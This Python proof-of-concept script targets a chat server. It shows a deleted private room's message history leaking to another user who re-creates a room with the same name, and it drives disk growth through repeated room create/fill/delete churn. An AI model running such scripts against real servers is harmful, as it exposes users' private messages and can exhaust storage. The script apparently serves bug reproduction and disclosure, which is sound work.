"""Room history outlives DeleteRoom: disk growth by create/fill/delete churn, and a new
room with a deleted room's name shows the old room's history to its new owner.
usage: room_hist_leak.py TCPADDR PID DATADIR ROUNDS MSGS_PER_ROOM PAYLOAD"""
import sys, time, os
sys.path.insert(0, os.path.dirname(__file__))
from wire import *
addr, pid, ddir = sys.argv[1], int(sys.argv[2]), sys.argv[3]
rounds, per, size = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])

# 1. leak: alice's private room "secret-team", deleted; mallory re-creates it
a = Conn(addr, "alice")
a.send_frame(10, {1: 1, 2: "secret-team", 3: "pw"}); print("create", a.wait("room_result"))
for i in range(3):
    a.send_frame(2, {1: 100+i, 3: "secret-team", 4: f"alice secret #{i}", 5: True})
    a.wait("send_result")
a.send_frame(15, {1: 2, 2: "secret-team"}); print("delete", a.wait("room_result"))
time.sleep(1.5)
m = Conn(addr, "mallory")
m.send_frame(10, {1: 1, 2: "secret-team"}); print("mallory create", m.wait("room_result"))
m.send_frame(40, {1: 2, 3: "secret-team", 5: 50})
h = m.wait("history_result")
msgs = [parse(x) for x in h.get(4, [])]
print("mallory sees", len(msgs), "old messages:", [(x.get(2,[b''])[0], x.get(4,[b''])[0]) for x in msgs])

# 2. disk growth by churn
d0 = du(ddir); r0 = rss(pid); t0 = time.time()
pay = os.urandom(size)
for r in range(rounds):
    name = f"churn-{r}"
    m.send_frame(10, {1: 10, 2: name}); res = m.wait("room_result")
    for i in range(per):
        m.send_frame(2, {3: name, 4: pay})
        if i % 200 == 199:
            m.send_frame(4, {1: i}); m.wait("pong")
    m.send_frame(15, {1: 11, 2: name}); m.wait("room_result")
    if r % 5 == 4:
        time.sleep(1.2)
        print(f"round {r+1}: disk {du(ddir)/2**20:.1f} MiB  rss {rss(pid)/1024:.1f} MiB  ({time.time()-t0:.0f}s)", flush=True)
time.sleep(2)
print(f"final: disk {d0/2**20:.1f} -> {du(ddir)/2**20:.1f} MiB; rss {r0/1024:.1f} -> {rss(pid)/1024:.1f} MiB; live rooms owned by mallory: 1")
m.send_frame(16, {1: 99}); print("ListRooms", m.wait("room_result"))
